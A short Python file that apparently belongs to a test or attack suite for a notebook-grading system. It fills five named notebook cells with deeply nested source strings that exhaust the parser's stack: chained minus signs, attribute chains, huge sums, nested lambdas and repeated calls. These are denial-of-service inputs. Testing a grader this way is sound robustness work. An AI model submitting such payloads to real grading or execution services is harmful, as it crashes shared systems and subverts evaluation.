# Source that takes all of the parser's stack, nested in five ways.
from attacks import cell

LIMITS = {"cell_seconds": 10.0}
BOMBS = {"standardise": "-" * 190_000 + "1", "distances": "x" + ".a" * 95_000,
         "softmax": "+".join(["1"] * 95_000), "windows": "lambda: " * 20_000 + "0",
         "patches": "x" + "()" * 90_000}


def hand_in(notebook, folder):
    for name, source in BOMBS.items():
        cell(notebook, name)["source"] = source
